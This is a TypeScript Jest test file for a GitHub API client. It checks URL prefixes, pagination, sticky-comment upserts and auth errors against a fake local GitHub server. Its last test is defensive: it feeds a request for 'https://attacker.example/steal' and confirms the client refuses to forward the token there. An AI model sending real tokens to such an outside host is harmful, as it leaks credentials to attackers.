import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { apiRequestUrl, gitHubHttp, GitHubApiError, nextPageUrl } from '../../src/github/http.js';
import {
  listIssueComments,
  upsertStickyComment,
  stickyCommentMarker
} from '../../src/github/sticky-comment.js';
import { MemoryLogger, startFakeGitHub, type FakeGitHubServer } from '@deploy-suite/testing';

let github: FakeGitHubServer;

beforeAll(async () => {
  github = await startFakeGitHub({
    prefix: '/api/v3',
    pageSize: 2,
    tokens: { ghs_write: { login: 'github-actions[bot]', write: true, installation: true } }
  });
});
afterAll(() => github.close());

describe('apiRequestUrl', () => {
  it('keeps a path prefix of the API root (GHES, the simulator)', () => {
    expect(apiRequestUrl('https://ghe.example.com/api/v3/', '/repos/o/r').toString()).toBe(
      'https://ghe.example.com/api/v3/repos/o/r'
    );
    expect(apiRequestUrl('http://127.0.0.1:4566/github', '/user').toString()).toBe(
      'http://127.0.0.1:4566/github/user'
    );
  });
});

describe('nextPageUrl', () => {
  it('reads rel="next" from a Link header', () => {
    expect(
      nextPageUrl(
        '<https://api.github.com/x?page=3>; rel="next", <https://api.github.com/x?page=9>; rel="last"'
      )
    ).toBe('https://api.github.com/x?page=3');
    expect(nextPageUrl('<https://api.github.com/x?page=1>; rel="prev"')).toBeUndefined();
    expect(nextPageUrl(undefined)).toBeUndefined();
  });
});

describe('gitHubHttp against a loopback GitHub', () => {
  it('sends the token, follows pages and upserts through the real transport', async () => {
    const http = gitHubHttp({ apiUrl: github.apiUrl, token: 'ghs_write', env: {} });
    const marker = stickyCommentMarker('verify-health', 'staging');
    const logger = new MemoryLogger();
    await upsertStickyComment({ http, owner: 'o', repo: 'r', issueNumber: 5, marker, body: 'one', logger });
    for (const text of ['a', 'b', 'c']) {
      await http.request({ method: 'POST', path: '/repos/o/r/issues/5/comments', body: { body: text } });
    }
    expect((await listIssueComments(http, 'o', 'r', 5)).map(comment => comment.body)).toEqual([
      `${marker}\none`,
      'a',
      'b',
      'c'
    ]);
    const result = await upsertStickyComment({
      http,
      owner: 'o',
      repo: 'r',
      issueNumber: 5,
      marker,
      body: 'two',
      logger
    });
    expect(result.outcome).toBe('updated');
    expect(github.comments.filter(comment => comment.issue === 5)).toHaveLength(4);
    expect(github.requests.every(request => request.authorization === 'Bearer ghs_write')).toBe(true);
  });

  it('rejects a refusal with the status and GitHub message', async () => {
    const http = gitHubHttp({ apiUrl: github.apiUrl, token: 'wrong', env: {} });
    const error = await http.request({ method: 'GET', path: '/user' }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(GitHubApiError);
    expect((error as GitHubApiError).status).toBe(401);
    expect((error as GitHubApiError).message).toBe(
      'GitHub API GET /api/v3/user answered 401: Bad credentials'
    );
  });

  it('never sends the token to another host named in a Link header', async () => {
    const http = gitHubHttp({ apiUrl: github.apiUrl, token: 'ghs_write', env: {} });
    await expect(http.request({ method: 'GET', path: 'https://attacker.example/steal' })).rejects.toThrow(
      'Refusing to send the GitHub token to https://attacker.example'
    );
  });
});
